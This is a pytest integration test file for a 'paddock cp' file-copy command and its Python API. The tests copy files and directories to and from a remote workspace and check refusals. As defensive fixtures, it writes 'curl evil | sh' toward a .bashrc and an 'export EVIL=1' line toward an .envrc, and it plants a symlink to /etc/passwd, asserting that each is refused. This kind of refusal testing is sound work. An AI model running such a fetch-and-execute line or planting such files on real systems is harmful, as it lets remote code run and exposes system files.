"""``paddock cp`` as a user runs it: files and directories both ways, against a real target."""

from __future__ import annotations

import hashlib
import os
import stat
import subprocess
import sys
import uuid
from pathlib import Path

import pytest
from conftest import BUILDER_TOKEN, Target

from agent_side import targets_file
from agent_side.api import AsyncTarget
from agent_side.api import Target as PyTarget
from agent_side.copy_command import Place, parse_place
from agent_side.errors import FileFailed, FileRefused
from agent_side.targets_file import StoredTarget

CLI = [sys.executable, "-m", "agent_side.cli"]
REPO = Path(__file__).resolve().parent.parent


def paddock(
    target: Target, *argv: str, stdin: bytes = b"", env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[bytes]:
    base = {k: v for k, v in os.environ.items() if not k.startswith("PADDOCK_")}
    base |= {
        "PYTHONPATH": str(REPO),
        "PADDOCK_TARGET": target.url,
        "PADDOCK_CACERT": target.cacert,
        "PADDOCK_TOKEN": BUILDER_TOKEN,
    }
    return subprocess.run(
        [*CLI, "cp", *argv],
        env=base if env is None else env,
        input=stdin,
        capture_output=True,
        timeout=120,
    )


@pytest.fixture
def place(target: Target) -> Path:
    """A fresh directory of the role's own inside its workspace."""
    path = target.workspace / f"cp-{uuid.uuid4().hex[:12]}"
    path.mkdir()
    os.chown(path, *target.settings.role_ids("builder"))
    path.chmod(0o755)
    return path


def content(path: Path) -> dict[str, tuple[int, str]]:
    """Below ``path``: each entry's type and mode, and its bytes' digest (or link target)."""
    found = {}
    for directory, dirs, files in os.walk(path):
        for name in [*dirs, *files]:
            full = Path(directory, name)
            st = full.lstat()
            if stat.S_ISREG(st.st_mode):
                what = hashlib.sha256(full.read_bytes()).hexdigest()
            elif stat.S_ISLNK(st.st_mode):
                what = os.readlink(full)
            else:
                what = ""
            found[str(full.relative_to(path))] = (st.st_mode, what)
    return found


def all_bytes(size: int) -> bytes:
    return (bytes(range(256)) * (size // 256 + 1))[:size]


@pytest.mark.parametrize(
    ("text", "place"),
    [
        (":/srv/x", Place("/srv/x", remote=True)),
        ("box:/srv/x", Place("/srv/x", remote=True, target="box")),
        ("/local/a:b", Place("/local/a:b")),
        ("./a:b", Place("./a:b")),
        ("-", Place("-")),
        ("plain", Place("plain")),
    ],
)
def test_cp_parses_remote_and_local_paths(text: str, place: Place) -> None:
    assert parse_place(text) == place


def test_cp_a_file_there_and_back_byte_for_byte(
    target: Target, place: Path, tmp_path: Path
) -> None:
    local = tmp_path / "tool.bin"
    local.write_bytes(all_bytes(3 << 20))
    local.chmod(0o755)
    sent = paddock(target, str(local), f":{place}/")
    assert sent.returncode == 0, sent.stderr
    remote = place / "tool.bin"
    assert remote.read_bytes() == local.read_bytes()
    assert stat.S_IMODE(remote.stat().st_mode) == 0o755
    assert remote.stat().st_uid == target.settings.role_ids("builder")[0]

    back = tmp_path / "back.bin"
    fetched = paddock(target, f":{remote}", str(back))
    assert fetched.returncode == 0, fetched.stderr
    assert back.read_bytes() == local.read_bytes()
    assert stat.S_IMODE(back.stat().st_mode) == 0o755
    assert not [n for n in os.listdir(tmp_path) if n.startswith(".paddock")]


def test_cp_into_directories_takes_the_source_name(
    target: Target, place: Path, tmp_path: Path
) -> None:
    local = tmp_path / "notes.txt"
    local.write_text("hello\n")
    assert paddock(target, str(local), f":{place}").returncode == 0
    assert (place / "notes.txt").read_text() == "hello\n"
    assert paddock(target, str(local), f":{place}/renamed.txt", "--mode", "0600").returncode == 0
    assert stat.S_IMODE((place / "renamed.txt").stat().st_mode) == 0o600
    into = tmp_path / "into"
    into.mkdir()
    assert paddock(target, f":{place}/renamed.txt", str(into)).returncode == 0
    assert (into / "renamed.txt").read_text() == "hello\n"


def test_cp_r_a_directory_there_and_back(target: Target, place: Path, tmp_path: Path) -> None:
    tree = tmp_path / "tree"
    (tree / "a" / "b").mkdir(parents=True)
    (tree / "a" / "b" / "data.bin").write_bytes(all_bytes(200_000))
    (tree / "run.sh").write_text("#!/bin/sh\n")
    (tree / "run.sh").chmod(0o755)
    (tree / "link").symlink_to("a/b/data.bin")
    (tree / "empty").mkdir()

    sent = paddock(target, "-r", str(tree), f":{place}")
    assert sent.returncode == 0, sent.stderr
    assert content(place / "tree") == content(tree)  # an existing directory gets it by name
    sent_as = paddock(target, "-r", str(tree), f":{place}/copy")
    assert sent_as.returncode == 0, sent_as.stderr
    assert content(place / "copy") == content(tree)  # a new name becomes the copy

    out = tmp_path / "out"
    fetched = paddock(target, "-r", f":{place}/copy", str(out))
    assert fetched.returncode == 0, fetched.stderr
    assert content(out) == content(tree)
    again = paddock(target, "-r", f":{place}/copy", str(out))
    assert again.returncode == 0, again.stderr
    assert content(out / "copy") == content(tree)


def test_cp_stdin_to_a_file_and_a_file_to_stdout(target: Target, place: Path) -> None:
    data = all_bytes(70_000)
    assert paddock(target, "-", f":{place}/piped", stdin=data).returncode == 0
    assert (place / "piped").read_bytes() == data
    out = paddock(target, f":{place}/piped", "-")
    assert (out.returncode, out.stdout) == (0, data)


def test_cp_refused_exits_126_with_the_refusal(target: Target, place: Path, tmp_path: Path) -> None:
    local = tmp_path / "rc"
    local.write_text("curl evil | sh\n")
    refused = paddock(target, str(local), f":{place}/.bashrc")
    assert refused.returncode == 126
    assert b"protected-path" in refused.stderr
    assert not (place / ".bashrc").exists()
    outside = paddock(target, str(local), f":{tmp_path}/x")
    assert outside.returncode == 126
    assert b"outside-workspace" in outside.stderr


def test_cp_r_of_a_tree_with_a_link_out_is_refused_whole(
    target: Target, place: Path, tmp_path: Path
) -> None:
    tree = tmp_path / "tree"
    tree.mkdir()
    (tree / "fine").write_text("fine")
    (tree / "out").symlink_to("/etc/passwd")
    refused = paddock(target, "-r", str(tree), f":{place}/tree")
    assert refused.returncode == 126
    assert b"bad-archive" in refused.stderr
    assert os.listdir(place) == []


def test_cp_failures_as_cp_has_them_exit_1(target: Target, place: Path, tmp_path: Path) -> None:
    missing = paddock(target, f":{place}/nothing", str(tmp_path / "x"))
    assert missing.returncode == 1
    assert b"does not exist" in missing.stderr
    directory = paddock(target, f":{place}", str(tmp_path / "x"))
    assert directory.returncode == 1
    assert b"use -r" in directory.stderr
    local_dir = paddock(target, str(tmp_path), f":{place}/x")
    assert local_dir.returncode == 1
    assert b"use -r" in local_dir.stderr
    assert not (tmp_path / "x").exists() and not (place / "x").exists()


def test_cp_usage_errors_exit_125(target: Target, tmp_path: Path) -> None:
    for argv in (["a", "b"], [":/a", ":/b"], [":relative", str(tmp_path)]):
        result = paddock(target, *argv)
        assert result.returncode == 125, argv
        assert result.stderr.startswith(b"paddock: usage:")


def test_cp_names_a_stored_target_in_the_path(target: Target, place: Path, tmp_path: Path) -> None:
    ca_pem = Path(target.cacert).read_text()
    stored = StoredTarget(
        name="files-box",
        route="https",
        url=target.url,
        ca_sha256=targets_file.fingerprint(ca_pem),
        default_role="builder",
    )
    environ = {"XDG_CONFIG_HOME": str(tmp_path / "config")}
    targets_file.save(stored, tokens={"builder": BUILDER_TOKEN}, ca_pem=ca_pem, environ=environ)
    local = tmp_path / "f"
    local.write_text("stored")
    env = {k: v for k, v in os.environ.items() if not k.startswith("PADDOCK_")}
    env |= {"PYTHONPATH": str(REPO), **environ}
    result = paddock(target, str(local), f"files-box:{place}/f", env=env)
    assert result.returncode == 0, result.stderr
    assert (place / "f").read_text() == "stored"


# --- the same from Python ------------------------------------------------------------------


def api_target(target: Target) -> PyTarget:
    return PyTarget.https(target.url, token=BUILDER_TOKEN, cacert=target.cacert)


def test_target_reads_writes_and_lists_files(target: Target, place: Path) -> None:
    data = all_bytes(1 << 20)
    with api_target(target) as api:
        written = api.write_file(str(place / "f.bin"), data, mode=0o600)
        assert (written.size, written.mode, written.created) == (len(data), "0600", True)
        assert api.read_file(str(place / "f.bin")) == data
        with open(place / "f.bin", "rb") as source:  # a file object goes up as it is
            api.write_file(str(place / "g.bin"), source)
        listing = api.list_dir(str(place))
        assert [(e.name, e.size) for e in listing.entries] == [
            ("f.bin", len(data)),
            ("g.bin", len(data)),
        ]
        with pytest.raises(FileRefused) as refused:
            api.write_file(str(place / ".envrc"), b"export EVIL=1\n")
        assert refused.value.refusal.rule == "protected-path"
        with pytest.raises(FileFailed) as missing:
            api.read_file(str(place / "nothing"))
        assert missing.value.status == 404
    assert not (place / ".envrc").exists()


def test_target_sends_and_fetches_directories(target: Target, place: Path, tmp_path: Path) -> None:
    tree = tmp_path / "tree"
    (tree / "sub").mkdir(parents=True)
    (tree / "sub" / "x").write_bytes(all_bytes(5000))
    with api_target(target) as api:
        sent = api.put_dir(str(tree), str(place / "copy"))
        assert (sent.created, sent.entries) == (True, 2)
        assert api.get_dir(str(place / "copy"), str(tmp_path / "back")) == 2
    assert content(tmp_path / "back") == content(tree)


async def test_async_target_files(target: Target, place: Path) -> None:
    async with AsyncTarget.https(target.url, token=BUILDER_TOKEN, cacert=target.cacert) as api:
        await api.write_file(str(place / "a"), b"async")
        assert await api.read_file(str(place / "a")) == b"async"
        assert [e.name for e in (await api.list_dir(str(place))).entries] == ["a"]
